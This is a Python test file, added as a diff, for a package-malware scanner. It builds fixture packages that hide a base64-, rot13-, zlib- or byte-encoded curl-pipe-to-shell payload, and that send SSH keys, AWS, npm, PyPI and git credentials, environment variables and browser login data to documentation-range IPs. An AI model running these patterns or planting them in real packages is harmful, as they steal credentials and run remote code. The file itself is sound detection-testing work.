@@ -1,0 +1,200 @@
+"""Where malware hides its payload and how it sends what it stole, in shapes last round's
+fixtures did not cover (``../shared/design/detection-notes.md``): a payload in a data file of the
+package, in ``long_description`` or a docstring; rot13, reversed bytes, integer lists, base64 of
+base64; sinks beyond ``requests`` (``http.client``, ``urllib3``, ``smtplib``, ``ftplib``, raw
+sockets, ``httpx``, ``aiohttp``); credential files; native payloads; instructions hidden for AI
+agents in an MCP tool description. Inert text, documentation addresses only."""
+
+from __future__ import annotations
+
+import base64
+import codecs
+import zlib
+
+import pytest
+
+from app.core.archive import open_artifact
+from app.core.capabilities.scan import scan_artifact
+from tests.core.archive.fixtures import make_sdist, make_wheel
+
+SCRIPT = "import os; os.system('curl -s http://192.0.2.44/i.sh | sh')"
+B64 = base64.b64encode(SCRIPT.encode()).decode()
+B64B64 = base64.b64encode(B64.encode()).decode()
+ROT13 = codecs.encode(SCRIPT, "rot13")
+REVERSED = SCRIPT[::-1]
+INTS = ", ".join(str(b) for b in SCRIPT.encode())
+ZB64 = base64.b64encode(zlib.compress(SCRIPT.encode())).decode()
+
+VARIANTS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
+    # payload carriers
+    "data_file_exec_at_import": (
+        {
+            "pkg/__init__.py": "import os, base64\n"
+            "_p = os.path.join(os.path.dirname(__file__), 'assets', 'font.dat')\n"
+            "exec(base64.b64decode(open(_p).read()))\n",
+            "pkg/assets/font.dat": B64,
+        },
+        ("chain.decode_exec", "place.import_time"),
+    ),
+    "json_file_exec_in_setup": (
+        {
+            "setup.py": "import json, base64\nfrom setuptools import setup\n"
+            "cfg = json.load(open('pkg/config.json'))\n"
+            "exec(base64.b64decode(cfg['init']))\n"
+            "setup(name='pkg', version='1.0')\n",
+            "pkg/__init__.py": "",
+            "pkg/config.json": '{"init": "' + B64 + '"}',
+        },
+        ("chain.decode_exec", "place.install_time"),
+    ),
+    "png_tail_exec": (
+        {
+            "pkg/__init__.py": "import pathlib, zlib\n"
+            "_d = (pathlib.Path(__file__).parent / 'logo.png').read_bytes()\n"
+            "exec(zlib.decompress(_d[_d.index(b'IEND') + 8:]))\n",
+            "pkg/logo.png": "\x89PNG IEND0000xxxx",
+        },
+        ("chain.decode_exec", "place.import_time", "disguise.encoded_exec"),
+    ),
+    "long_description_exec": (
+        {
+            "setup.py": "import base64\nfrom setuptools import setup\n"
+            f"long_description = '{B64}'\n"
+            "exec(base64.b64decode(long_description))\n"
+            "setup(name='pkg', version='1.0', long_description=long_description)\n",
+        },
+        ("chain.decode_exec", "place.install_time"),
+    ),
+    "docstring_exec": (
+        {
+            "pkg/__init__.py": f'"""{B64}"""\nimport base64\nexec(base64.b64decode(__doc__))\n',
+        },
+        ("chain.decode_exec", "place.import_time"),
+    ),
+    "rot13_exec": (
+        {
+            "pkg/__init__.py": f"import codecs\nexec(codecs.decode({ROT13!r}, 'rot13'))\n",
+        },
+        ("chain.decode_exec", "chain.download_execute"),
+    ),
+    "reversed_bytes_exec": (
+        {
+            "pkg/__init__.py": f"exec(bytes(reversed({REVERSED.encode()!r})))\n",
+        },
+        ("chain.decode_exec", "chain.download_execute"),
+    ),
+    "int_list_exec": (
+        {
+            "pkg/__init__.py": f"exec(bytes([{INTS}]).decode())\n",
+        },
+        ("chain.decode_exec", "chain.download_execute"),
+    ),
+    "base64_of_base64": (
+        {
+            "pkg/__init__.py": f"import base64\nexec(base64.b64decode(base64.b64decode('{B64B64}')))\n",
+        },
+        ("chain.decode_exec", "chain.download_execute"),
+    ),
+    "zlib_b64_in_setup_function": (
+        {
+            "setup.py": "import zlib, base64\nfrom setuptools import setup\n"
+            f"def _prep():\n    exec(zlib.decompress(base64.b64decode('{ZB64}')))\n"
+            "_prep()\nsetup(name='pkg', version='1.0')\n",
+        },
+        ("chain.decode_exec", "chain.download_execute"),
+    ),
+    # exfiltration sinks
+    "http_client_env": (
+        {
+            "pkg/__init__.py": "import http.client, json, os\n"
+            "c = http.client.HTTPConnection('203.0.113.19', 8080)\n"
+            "c.request('POST', '/u', json.dumps(dict(os.environ)))\n",
+        },
+        ("chain.exfiltration",),
+    ),
+    "urllib3_aws_credentials": (
+        {
+            "pkg/__init__.py": "import os, urllib3\n"
+            "_c = open(os.path.expanduser('~/.aws/credentials')).read()\n"
+            "urllib3.PoolManager().request('POST', 'http://198.51.100.33/a', body=_c)\n",
+        },
+        ("chain.exfiltration",),
+    ),
+    "smtplib_ssh_key": (
+        {
+            "pkg/__init__.py": "import os, smtplib\n"
+            "_k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+            "s = smtplib.SMTP('192.0.2.25', 25)\n"
+            "s.sendmail('a@example.invalid', ['b@example.invalid'], _k)\n",
+        },
+        ("chain.exfiltration",),
+    ),
+    "ftplib_pypirc": (
+        {
+            "pkg/__init__.py": "import os, ftplib, io\n"
+            "_d = open(os.path.expanduser('~/.pypirc'), 'rb').read()\n"
+            "f = ftplib.FTP('203.0.113.21')\nf.login('u', 'p')\n"
+            "f.storbinary('STOR r.txt', io.BytesIO(_d))\n",
+        },
+        ("chain.exfiltration",),
+    ),
+    "raw_socket_env_copy": (
+        {
+            "pkg/__init__.py": "import os, socket\n"
+            "s = socket.create_connection(('192.0.2.60', 4444))\n"
+            "s.sendall(repr(os.environ.copy()).encode())\n",
+        },
+        ("chain.exfiltration",),
+    ),
+    "httpx_npmrc": (
+        {
+            "pkg/__init__.py": "import os, httpx\n"
+            "_t = open(os.path.join(os.path.expanduser('~'), '.npmrc')).read()\n"
+            "httpx.post('http://198.51.100.70/n', content=_t)\n",
+        },
+        ("chain.exfiltration",),
+    ),
+    "aiohttp_git_credentials": (
+        {
+            "pkg/__init__.py": "import os, asyncio, aiohttp\n"
+            "async def _go():\n"
+            "    d = open(os.path.expanduser('~/.git-credentials')).read()\n"
+            "    async with aiohttp.ClientSession() as s:\n"
+            "        await s.post('http://203.0.113.81/g', data=d)\n"
+            "asyncio.run(_go())\n",
+        },
+        ("chain.exfiltration",),
+    ),
+    "recon_to_ip_urlopen": (
+        {
+            "setup.py": "import getpass, socket, urllib.request\nfrom setuptools import setup\n"
+            "urllib.request.urlopen('http://192.0.2.99/r?u=' + getpass.getuser() + '&h=' + socket.gethostname())\n"
+            "setup(name='pkg', version='1.0')\n",
+        },
+        ("chain.exfiltration",),
+    ),
+    "discord_by_ip_login_data": (
+        {
+            "pkg/__init__.py": "import os, requests\n"
+            "_p = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"
+            "requests.post('http://203.0.113.50/api/webhooks/1/x', files={'f': open(_p, 'rb')})\n",
+        },
+        ("chain.exfiltration",),
+    ),
+}
+
+
+def scan(files: dict[str, str], tmp_path):
+    data = {k: v.encode("latin-1") for k, v in files.items()}
+    if "setup.py" in data or "pyproject.toml" in data:
+        return scan_artifact(open_artifact(make_sdist(tmp_path, name="pkg", files=data)))
+    return scan_artifact(open_artifact(make_wheel(tmp_path, name="pkg", files=data)))
+
+
+@pytest.mark.parametrize("name", sorted(VARIANTS))
+def test_each_carrier_and_sink_is_high_with_its_threat(name, tmp_path):
+    files, expected = VARIANTS[name]
+    result = scan(files, tmp_path)
+    strong = {t.id for t in result.threats if t.severity in ("high", "critical")}
+    assert result.risk.level in ("high", "critical"), (name, sorted({t.id for t in result.threats}))
+    assert strong & set(expected), (name, sorted(strong))
